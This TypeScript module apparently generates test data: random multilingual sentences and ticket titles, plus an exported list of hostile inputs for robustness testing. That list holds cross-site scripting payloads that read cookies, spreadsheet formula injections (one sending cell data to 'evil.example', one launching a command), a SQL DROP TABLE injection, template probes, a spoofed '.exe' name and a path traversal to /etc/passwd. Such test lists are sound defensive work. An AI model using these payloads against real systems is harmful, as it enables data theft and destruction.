import type { Random } from './random'

const SENTENCES = [
  'Asked for a quote by the end of the week.',
  'The export stops after page three.',
  'Customer is happy with the new dashboard 🎉.',
  'Bitte bis Freitag zurückrufen, danke!',
  'Le contrat a été renouvelé pour deux ans.',
  '請在星期五之前回覆。',
  'يرجى الرد قبل نهاية الأسبوع.',
  'נא לחזור אליי עד יום חמישי.',
  'Просьба перезвонить после обеда.',
  'Renewal is at risk: their champion left.',
  'See https://example.com/wiki/Runbook?page=2#restart for the steps.',
  'Could not reproduce on staging; works on my machine.',
  'Escalated to engineering, waiting for a fix.',
  'Discount of 12,5 % approved by finance.',
  'Please do not contact by phone.',
  'Merged with the duplicate from last month.',
]

const TITLES = [
  'Quarterly review',
  'Login fails after password change',
  'Renewal 2026',
  'Überarbeitung der Preisliste',
  'Onboarding für das Team in São Paulo',
  'CSV export is missing rows',
  'Kick-off: データ移行',
  'Webhook retries flood the queue',
  'Invoice shows the wrong currency',
  'اجتماع المبيعات',
  'Rate limits for the public API',
  'Dark mode 🌙',
  'Ask: single sign-on',
  'Fix flaky end-to-end test',
  'Lunch & learn',
  'Migration plan, part II',
]

/** Strings that break what trusts its input: markup, links that run script, spreadsheet formulas, invisible characters. */
export const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '<b>bold</b> &amp; <a href="javascript:alert(1)">click me</a>',
  'javascript:alert(document.domain)',
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  "Robert'); DROP TABLE records;--",
  '{{7*7}} %s%n #{1+1} <%= 1 %>',
  '\u202Egnp.exe\u202C reversed by an override',
  'zero\u200Bwidth\u200Dand\uFEFFmarks',
  'e\u0301 is not é, and 👩‍👩‍👧‍👦 is one family',
  'Z̸̢̛͎a̷͇͝l̵̰͑g̶̱̀o̴̗͒ he comes',
  '\ttabs\r\nand\nnew lines\n\n\nmany',
  '   leading and trailing   ',
  'null',
  'NaN',
  '../../etc/passwd',
  'A'.repeat(600),
]

export function sentence(random: Random): string {
  return random.pick(SENTENCES)
}

export function title(random: Random): string {
  return random.pick(TITLES)
}

/** Sentences until there are at least `characters` characters. */
export function textOf(random: Random, characters: number): string {
  const parts: string[] = []
  for (let length = 0; length < characters; length += (parts.at(-1)?.length ?? 0) + 1) parts.push(sentence(random))
  return parts.join(random.chance(0.2) ? '\n' : ' ')
}
